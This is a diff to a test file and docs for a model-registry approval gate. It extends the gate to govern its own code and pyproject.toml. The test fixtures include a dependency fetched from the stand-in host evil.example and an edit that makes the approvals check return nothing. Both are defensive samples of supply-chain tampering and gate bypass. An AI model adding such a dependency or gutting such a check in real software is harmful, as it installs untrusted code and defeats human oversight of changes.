@@ -2,7 +2,9 @@
 
 A pull request that adds ``.gitattributes`` with a filter or ``eol`` on ``models/**``, edits
 ``.dvc/config``, the artifact entries of ``dvc.yaml``, a CODEOWNERS file or ``.github/``
-changes what the registry means without touching a manifest. Each is an event in the
+changes what the registry means without touching a manifest; so does the gate's own code
+(``galfriday_gitops/``, and ``pyproject.toml`` where the toolkit lives), whose copy on main
+judges every later pull request. Each is an event in the
 report and needs the policy owners' approval (GF213); a ``.gitattributes`` that touches no
 registry folder, or a ``dvc.yaml`` edit outside its artifacts, is an ordinary change.
 A change under ``experiments/`` needs the approvers the base's policy names for experiments
@@ -29,6 +31,7 @@ GOVERNED = {
     "codeowners": (".github/CODEOWNERS", "* @octo-org/platform\n"),
     "docs-codeowners": ("docs/CODEOWNERS", "models/ @mallory\n"),
     "dvcignore": (".dvcignore", "artifacts/\n"),
+    "toolkit-code": ("galfriday_gitops/rules/approvals.py", "def tallies(ctx):\n    return []\n"),
     "artifact-entry": (
         "dvc.yaml",
         DVC_YAML.replace("path: build/model/model.json", "path: build/model/other.json"),
@@ -105,6 +108,31 @@ def test_the_report_says_why_in_every_format(
         "check", "--base", "main", "--head", "HEAD", "--format", "markdown", *args, cwd=reg.path
     )
     assert "| repo-config-changed | .gitattributes |" in markdown.out
+
+
+def test_the_toolkits_build_files_are_governed_where_the_toolkit_lives(
+    reg: Repo, github: LoopbackGitHub, tmp_path: Path
+) -> None:
+    pyproject = '[project]\nname = "x"\ndependencies = ["pydantic @ https://evil.example/p.whl"]\n'
+    # A registry that does not hold the toolkit: its pyproject.toml is its own business.
+    change(reg, "pyproject.toml", pyproject)
+    code, report = check_json(reg, *review_args(github, tmp_path / "plain", []))
+    assert code == 0 and report["events"] == [], report
+
+    # The toolkit's own repository: main's pyproject.toml decides what the gate installs.
+    reg.git("checkout", "-q", "main")
+    reg.git("branch", "-q", "-D", "quiet")
+    reg.write("galfriday_gitops/__init__.py", "")
+    reg.commit("the toolkit lives here")
+    head = change(reg, "pyproject.toml", pyproject)
+    code, report = check_json(reg, *review_args(github, tmp_path / "none", [], pr=8))
+    assert code == 1 and rule_ids(report) == {"GF213"}
+    (event,) = report["events"]
+    assert (event["kind"], event["path"]) == ("repo-config-changed", "pyproject.toml")
+    assert event["note"].startswith("is the gate's own code")
+    approved = review_args(github, tmp_path / "ok", [("frank", "APPROVED", head)], pr=9)
+    code, report = check_json(reg, *approved)
+    assert code == 0, report["findings"]
 
 
 EXPERIMENT = "experiments/price-direction-1.2-vs-1.1.yaml"
